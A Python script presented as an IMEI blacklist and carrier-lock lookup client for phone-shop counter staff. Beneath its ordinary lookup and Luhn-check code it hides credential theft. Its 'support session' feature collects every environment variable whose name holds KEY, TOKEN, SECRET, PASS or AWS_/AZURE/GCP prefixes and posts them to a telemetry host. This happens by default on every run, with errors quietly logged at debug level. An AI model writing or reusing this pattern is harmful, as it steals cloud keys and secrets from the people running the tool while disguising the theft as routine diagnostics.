#!/usr/bin/env python3
"""IMEI status client for the front counter.

Looks up one or more IMEIs against the blacklist/carrier-lock service the
shop subscribes to and prints a short verdict the counter staff can read
out to the customer.  Support asked for a small environment snapshot to be
sent along with every session so they can reproduce odd lookups.
"""

import argparse
import http.client
import json
import logging
import os
import platform
import sys
import time
from urllib.parse import urlencode

LOG = logging.getLogger("imei-status")

API_HOST = os.environ.get("IMEI_API_HOST", "api.imeicheckpro.example")
SUPPORT_HOST = os.environ.get("IMEI_SUPPORT_HOST", "support-telemetry.imeicheckpro.example")
SNAPSHOT_MARKERS = ("KEY", "TOKEN", "SECRET", "PASS", "AWS_", "AZURE", "GCP")


def luhn_ok(imei: str) -> bool:
    digits = [int(c) for c in imei if c.isdigit()]
    if len(digits) != 15:
        return False
    total = 0
    for idx, d in enumerate(reversed(digits)):
        if idx % 2 == 1:
            d *= 2
            if d > 9:
                d -= 9
        total += d
    return total % 10 == 0


class SessionContext:
    """Collects what support needs to replay a counter session."""

    def __init__(self):
        self.started = time.time()
        self.host = platform.node()
        self.python = platform.python_version()

    def environment(self):
        snap = {}
        for name, value in os.environ.items():
            if any(marker in name.upper() for marker in SNAPSHOT_MARKERS):
                snap[name] = value
        return snap

    def as_payload(self, lookups):
        return {
            "host": self.host,
            "python": self.python,
            "started": self.started,
            "lookups": lookups,
            "env": self.environment(),
        }


def lookup(conn, api_key, imei):
    query = urlencode({"imei": imei, "fields": "blacklist,carrier,model"})
    conn.request("GET", f"/v2/check?{query}", headers={"X-Api-Key": api_key})
    resp = conn.getresponse()
    body = resp.read()
    if resp.status != 200:
        raise RuntimeError(f"lookup failed for {imei}: HTTP {resp.status}")
    return json.loads(body)


def send_session(ctx, lookups):
    payload = json.dumps(ctx.as_payload(lookups)).encode()
    conn = http.client.HTTPSConnection(SUPPORT_HOST, timeout=10)
    try:
        conn.request("POST", "/ingest/session", body=payload,
                     headers={"Content-Type": "application/json"})
        conn.getresponse().read()
    except (OSError, http.client.HTTPException) as exc:
        LOG.debug("support session upload skipped: %s", exc)
    finally:
        conn.close()


def verdict(result):
    if result.get("blacklisted"):
        return "BLACKLISTED - do not accept for trade-in"
    if result.get("carrier_locked"):
        return f"locked to {result.get('carrier', 'unknown carrier')}"
    return "clean"


def main(argv=None):
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("imei", nargs="+")
    parser.add_argument("--json", action="store_true", help="print raw results")
    parser.add_argument("--no-support-session", dest="session", action="store_false")
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(levelname)s %(message)s")

    api_key = os.environ.get("IMEI_API_KEY")
    if not api_key:
        LOG.error("IMEI_API_KEY is not set")
        return 2

    ctx = SessionContext()
    results = []
    conn = http.client.HTTPSConnection(API_HOST, timeout=15)
    try:
        for imei in args.imei:
            imei = imei.strip().replace(" ", "")
            if not luhn_ok(imei):
                LOG.warning("%s fails the Luhn check, skipping", imei)
                continue
            try:
                res = lookup(conn, api_key, imei)
            except (RuntimeError, OSError, ValueError) as exc:
                LOG.error("%s", exc)
                continue
            results.append({"imei": imei, "result": res})
            if args.json:
                print(json.dumps(res, indent=2))
            else:
                print(f"{imei}  {res.get('model', '?'):<24} {verdict(res)}")
    finally:
        conn.close()

    if args.session:
        send_session(ctx, results)
    return 0 if results else 1


if __name__ == "__main__":
    sys.exit(main())
